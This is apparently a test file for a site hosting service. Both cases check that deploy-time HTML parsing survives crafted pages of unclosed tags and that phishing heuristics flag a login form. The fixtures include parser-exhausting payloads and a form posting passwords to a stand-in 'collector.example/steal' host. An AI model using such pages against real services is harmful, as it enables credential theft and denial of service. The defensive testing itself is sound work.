import { describe, it, before, after } from 'node:test'
import assert from 'node:assert/strict'
import { ENGINES, startServer, type TestServer } from '../support/server.js'
import { batchUpload, HIGH_LIMITS, HTML } from '../support/hosting.js'
import { smtpSink } from '../support/smtp.js'

// Findings of the security review of the deploy-time page reading and the links sent out of
// band (decisions NEW-SECREVIEW-1 to -3), against a real server over a socket, both engines.

/** A form whose file input a browser sends as its name alone: the warning the deploy answers. */
const FILE_AS_NAME = HTML('apply', '<form id="apply" method="post" action="https://formspree.io/f/x"><input type="file" name="cv"></form>')

for (const engine of ENGINES) {
  describe(`security review: deploy-time page reading and out-of-band links [${engine}]`, () => {
    let s: TestServer
    let u: Awaited<ReturnType<TestServer['user']>>
    let smtp: Awaited<ReturnType<typeof smtpSink>>
    before(async () => {
      smtp = await smtpSink()
      s = await startServer({ engine, env: { RATE_LIMITS: HIGH_LIMITS, SMTP_URL: smtp.url, SMTP_FROM: 'svc <svc@localhost>' } })
      u = await s.user()
    })
    after(async () => {
      await s.close()
      await smtp.close()
    })

    it('crafted pages of unclosed tags and comments are read in bounded time, and the service answers meanwhile (NEW-SECREVIEW-1)', async () => {
      // each page is ~200 KiB of tags that never close: every later tag used to rescan to the end
      const n = 200 * 1024
      const pages = [
        { filename: 'index.html', data: '<img '.repeat(n / 5) },
        { filename: 'forms.html', data: '<form '.repeat(n / 6) },
        { filename: 'comments.html', data: '<!--'.repeat(n / 4) },
        { filename: 'scripts.html', data: '<script>'.repeat(n / 8) },
        { filename: 'inputs.html', data: `<form method="post" action="${s.url}/api/forms/submit/x">${'<input '.repeat(n / 7)}` },
        { filename: 'buttons.html', data: `<form method="post"><input type="file">${'<button '.repeat(n / 8)}` },
        { filename: 'base.html', data: '<base '.repeat(n / 6) },
        // a login page: the phishing heuristics read its text and fields too
        { filename: 'login-lt.html', data: `<input type="password">${'<'.repeat(n)}` },
        { filename: 'login-inputs.html', data: `<input type="password">${'<input '.repeat(n / 7)}` },
        { filename: 'login-title.html', data: `<input type="password">${'<title>'.repeat(n / 7)}` },
        { filename: 'apply.html', data: FILE_AS_NAME },
      ]
      const started = Date.now()
      let slowest = 0
      let done = false
      // /healthz during the deploy: the page reading runs on the event loop
      const probe = (async () => {
        while (!done) {
          const t = Date.now()
          const h = await s.get('/healthz')
          assert.equal(h.status, 200)
          slowest = Math.max(slowest, Date.now() - t)
          await new Promise((r) => setTimeout(r, 50))
        }
      })()
      const r = await batchUpload(s, { key: u.key }, 'crafted', pages, true, { 'accept-language': 'en' })
      done = true
      await probe
      const took = Date.now() - started
      assert.equal(r.status, 200, r.text)
      assert.equal(r.json.uploaded_count, pages.length)
      // the real problems are still found: a file input in a form sent without multipart
      assert.deepEqual(
        r.json.warnings.map((w: { path: string }) => w.path),
        ['apply.html', 'buttons.html'],
      )
      assert.ok(took < 5000, `the deploy took ${took} ms`)
      assert.ok(slowest < 2000, `/healthz waited ${slowest} ms during it`)
    })

    it('a _next no URL parser resolves neither fails the warnings of the other pages nor the phishing heuristics (NEW-SECREVIEW-2)', async () => {
      const submit = `${s.url}/api/forms/submit/contact`
      // a login page posting the password elsewhere: the heuristics open a report for it
      const phish = HTML(
        'login',
        `<form id="c" method="post" action="${submit}"><input type="hidden" name="_next" value="\\\\["><input type="password" name="pw"></form>` +
          '<form method="post" action="https://collector.example/steal"><input type="password" name="p"></form>',
      )
      const folder = `nx${engine}`
      const r = await batchUpload(
        s,
        { key: u.key },
        folder,
        [
          { filename: 'a-login.html', data: phish },
          { filename: 'b-apply.html', data: FILE_AS_NAME },
        ],
        true,
        { 'accept-language': 'en' },
      )
      assert.equal(r.status, 200, r.text)
      assert.deepEqual(
        r.json.warnings.map((w: { path: string }) => w.path),
        ['b-apply.html'],
      )
      const reports = await s.deps.db.k
        .selectFrom('abuse_reports')
        .select(['target', 'details'])
        .where('source', '=', 'heuristic')
        .where('target', '=', `site:${u.username}/${folder}`)
        .execute()
      assert.equal(reports.length, 1, 'the phishing page is reported')
      assert.match(reports[0].details, /collector\.example/)
    })
  })
}
